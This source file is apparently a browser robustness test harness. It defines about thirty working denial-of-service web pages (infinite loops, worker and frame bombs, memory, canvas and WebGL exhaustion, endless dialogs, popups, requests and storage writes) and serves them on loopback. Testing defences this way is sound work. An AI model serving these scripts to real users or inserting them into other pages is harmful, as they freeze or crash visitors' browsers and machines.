import { type Server } from "bun";

/** A hostile page: the resource that it uses up, and its script. */
export interface Attack {
  readonly name: string;
  readonly about: string;
  /** Runs in the page as soon as it is there. */
  readonly script: string;
}

/** The page's helpers: `spin` is a script that never ends, `start` one that runs in a worker, `frame` adds a frame. */
const HELPERS = `
const spin = "for (;;) Math.sqrt(Math.random())";
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const start = (text) => new Worker(blob(text));
const frame = (fields) => document.body.append(Object.assign(document.createElement("iframe"), fields));
/** Addresses of other sites: each address is a site of its own. */
const site = (n, path) => "http://127.1." + (n >> 8) + "." + (1 + n % 250) + ":" + location.port + path;
const forever = (act) => { const loop = () => { for (let n = 0; n < 50; n++) act(); setTimeout(loop); }; loop(); };`;

const SPIN_PAGE = "<script>for (;;) Math.sqrt(Math.random());</script>";
const MEMORY = `const kept = []; for (;;) kept.push(new Uint8Array(16 << 20).fill(1));`;

export const ATTACKS: readonly Attack[] = [
  { name: "loop", about: "a script that never ends", script: "eval(spin)" },
  {
    name: "workers",
    about: "200 workers that start workers",
    script: `
      const nested = "for (let n = 0; n < 4; n++) new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(spin) + "]))); " + spin;
      for (let n = 0; n < 200; n++) start(nested);`,
  },
  { name: "few-workers", about: "12 workers that spin", script: "for (let n = 0; n < 12; n++) start(spin)" },
  {
    name: "shared-workers",
    about: "100 shared workers that spin",
    script: "for (let n = 0; n < 100; n++) new SharedWorker(blob(spin), 'w' + n)",
  },
  {
    name: "service-worker",
    about: "a service worker that spins, and starts again",
    script: `navigator.serviceWorker.register("/spin.js"); setInterval(() => fetch("/x").catch(() => 0), 500);`,
  },
  {
    name: "threads",
    about: "WebAssembly memory shared by 12 workers that count in it",
    script: `const memory = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
      for (let n = 0; n < 12; n++) start("onmessage = ({ data }) => { const cells = new Int32Array(data.buffer); for (;;) Atomics.add(cells, 0, 1); }").postMessage(memory);`,
  },
  {
    name: "frames",
    about: "frames in frames, each with a timer that spins",
    script: `const nest = (depth) => "<body><script>setInterval(() => { const end = performance.now() + 50; while (performance.now() < end); }, 1);" +
        (depth === 0 ? "" : "for (let n = 0; n < 4; n++) document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: " + JSON.stringify(nest(depth - 1)) + " }));") + "<\\/script>";
      for (let n = 0; n < 4; n++) frame({ srcdoc: nest(3) });`,
  },
  {
    name: "blob-frames",
    about: "100 sandboxed frames of blobs that spin",
    script: `for (let n = 0; n < 100; n++) frame({ sandbox: "allow-scripts", src: blob("<script>" + spin + "<\\/script>", "text/html") })`,
  },
  {
    name: "frames-of-sites",
    about: "200 frames of other sites that spin",
    script: `for (let n = 0; n < 200; n++) frame({ src: site(n, "/spin") })`,
  },
  {
    name: "frame-churn",
    about: "frames that come and go without end",
    script: `forever(() => { frame({ src: "about:blank" }); document.body.lastChild.remove(); frame({ srcdoc: "x" }); if (frames.length > 50) document.body.replaceChildren(); })`,
  },
  {
    name: "frame-navigation",
    about: "frames that navigate without end",
    script: `for (let n = 0; n < 20; n++) frame({ srcdoc: "<script>setInterval(() => { location.href = URL.createObjectURL(new Blob(['<script>setTimeout(() => history.back())<\\\\/script>'], { type: 'text/html' })); }, 5)<\\/script>" })`,
  },
  {
    name: "history",
    about: "history entries and fragments without end",
    script: "let n = 0; forever(() => { try { history.pushState(n++, '', '#' + n); location.hash = n; } catch {} })",
  },
  { name: "memory", about: "memory without end", script: MEMORY },
  {
    name: "memory-of-sites",
    about: "40 frames of other sites that take memory without end",
    script: `for (let n = 0; n < 40; n++) frame({ src: site(n, "/memory") })`,
  },
  {
    name: "canvas",
    about: "large canvases that are drawn and read",
    script: `const all = []; forever(() => { const canvas = new OffscreenCanvas(4000, 4000); const context = canvas.getContext("2d"); context.fillRect(0, 0, 4000, 4000); context.getImageData(0, 0, 4000, 4000); all.push(canvas); })`,
  },
  {
    name: "webgl",
    about: "a shader that takes seconds a frame",
    script: `for (let n = 0; n < 4; n++) { const canvas = document.createElement("canvas"); canvas.width = canvas.height = 2048; document.body.append(canvas);
      const gl = canvas.getContext("webgl2"); if (!gl) continue;
      const shader = (type, text) => { const made = gl.createShader(type); gl.shaderSource(made, text); gl.compileShader(made); return made; };
      const program = gl.createProgram();
      gl.attachShader(program, shader(gl.VERTEX_SHADER, "#version 300 es\\nvoid main() { vec2 p = vec2(gl_VertexID & 1, gl_VertexID >> 1) * 4.0 - 1.0; gl_Position = vec4(p, 0, 1); }"));
      gl.attachShader(program, shader(gl.FRAGMENT_SHADER, "#version 300 es\\nprecision highp float; out vec4 c; void main() { float x = gl_FragCoord.x; for (int n = 0; n < 20000; n++) x = sin(x) + cos(x); c = vec4(x); }"));
      gl.linkProgram(program); gl.useProgram(program);
      const draw = () => { gl.drawArrays(gl.TRIANGLES, 0, 3); gl.flush(); setTimeout(draw); }; draw(); }`,
  },
  {
    name: "webgl-contexts",
    about: "WebGL contexts with large textures without end",
    script: `const all = []; setInterval(() => { const canvas = document.createElement("canvas"); const gl = canvas.getContext("webgl"); if (!gl) return; all.push(gl);
      for (let n = 0; n < 8; n++) { const texture = gl.createTexture(); gl.bindTexture(gl.TEXTURE_2D, texture); gl.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, 4096, 4096, 0, gl.RGBA, gl.UNSIGNED_BYTE, new Uint8Array(4096 * 4096 * 4)); } gl.finish(); }, 1)`,
  },
  {
    name: "dom",
    about: "a document that grows and is laid out without end",
    script: `forever(() => { const part = document.createElement("div"); for (let n = 0; n < 500; n++) part.append(Object.assign(document.createElement("p"), { textContent: "words" })); document.body.append(part); void part.offsetHeight; })`,
  },
  {
    name: "animation",
    about: "10,000 elements that move",
    script: `document.body.insertAdjacentHTML("beforeend", "<style>@keyframes k { to { transform: rotate(1turn) scale(3); left: 500px; filter: blur(9px) } } i { position: absolute; width: 90px; height: 90px; animation: k 1s infinite; background: linear-gradient(red, blue) }</style>" + "<i></i>".repeat(10000))`,
  },
  { name: "dialogs", about: "dialogs without end", script: "for (;;) alert(1)" },
  { name: "print", about: "printing without end", script: "forever(() => print())" },
  {
    name: "popups",
    about: "windows without end",
    script: "forever(() => { try { open('/x'); open('about:blank', '_blank', 'noopener'); } catch {} })",
  },
  {
    name: "fetches",
    about: "requests without end",
    script: `let n = 0; const again = () => fetch("/x?" + n++).catch(() => 0).then(again); for (let k = 0; k < 200; k++) again();`,
  },
  {
    name: "sockets",
    about: "WebSockets without end",
    script: `const again = () => { const socket = new WebSocket("ws://" + location.host + "/x"); socket.onclose = socket.onerror = () => setTimeout(again); }; for (let k = 0; k < 100; k++) again();`,
  },
  {
    name: "beacons",
    about: "failing requests to hosts without end",
    script: `let n = 0; forever(() => { new Image().src = "http://h" + n++ + ".invalid/"; })`,
  },
  {
    name: "storage",
    about: "cookies, storage and databases written without end",
    script: `let n = 0; const big = "x".repeat(4000); indexedDB.open("d").onupgradeneeded = (event) => event.target.result.createObjectStore("s");
      forever(() => { document.cookie = "a=" + big.slice(n++ % 100); void document.cookie; try { localStorage.setItem("k" + n % 100, big + n); } catch {} caches.open("c" + n % 50); })`,
  },
  {
    name: "messages",
    about: "messages between contexts without end",
    script: `const channel = new BroadcastChannel("c"); const other = new BroadcastChannel("c"); other.onmessage = () => {};
      forever(() => { channel.postMessage(new Uint8Array(100000)); postMessage(new Uint8Array(100000), "*"); console.log("x".repeat(10000)); URL.createObjectURL(new Blob(["x".repeat(100000)])); })`,
  },
  {
    name: "locks",
    about: "calls to the browser's process without end",
    script: `forever(() => { navigator.permissions?.query({ name: "geolocation" }).catch(() => 0); navigator.locks?.request("l", () => 0); document.title = Math.random(); navigator.storage?.estimate(); document.hasStorageAccess?.(); navigator.clipboard?.readText().catch(() => 0); })`,
  },
];

/** Pages that exceed one limit, but use up no processor time. They never finish loading, so that a slow machine gets there. */
const EXCESSES = {
  "many-frames": `for (let n = 0; n < 1100; n++) { frame({}); document.body.lastChild.remove(); }`,
  "frames-of-many-sites": `for (let n = 0; n < 70; n++) frame({ src: site(n, "/none") })`,
  "idle-workers": `for (let n = 0; n < 64 + 2 * navigator.hardwareConcurrency + 20; n++) start("onmessage = () => 0")`,
  pictures: `for (let n = 0; n < 3000; n++) new Image().src = "/none?" + n`,
};

/** Serves every attack at `/NAME` of a port, on all addresses of loopback, with words for who is patient. */
export function startAttackSite(): Server<undefined> {
  const pages = new Map(ATTACKS.map(({ name, script }) => [`/${name}`, pageOf(script)]));
  for (const [name, script] of Object.entries(EXCESSES))
    pages.set(`/${name}`, pageOf(script) + `<script src="/never"></script>`);
  pages.set("/spin", SPIN_PAGE);
  pages.set("/memory", `<script>${MEMORY}</script>`);
  return Bun.serve({
    hostname: "0.0.0.0",
    port: 0,
    idleTimeout: 0,
    fetch(request) {
      const { pathname } = new URL(request.url);
      if (pathname === "/never") return new Promise<Response>(() => {});
      if (pathname === "/spin.js") {
        return new Response("for (;;);", { headers: { "content-type": "text/javascript" } });
      }
      const page = pages.get(pathname);
      if (page === undefined) return new Response("none", { status: 404 });
      return new Response(page, {
        headers: {
          "content-type": "text/html",
          // Memory is shared between threads of such pages alone.
          ...(pathname === "/threads"
            ? { "cross-origin-opener-policy": "same-origin", "cross-origin-embedder-policy": "require-corp" }
            : {}),
        },
      });
    },
  });
}

function pageOf(script: string): string {
  const words = "<p>Words that a reader may want. </p>".repeat(20);
  return `<!doctype html><title>Attack</title><body>${words}<script>${HELPERS}\n${script}</script>`;
}
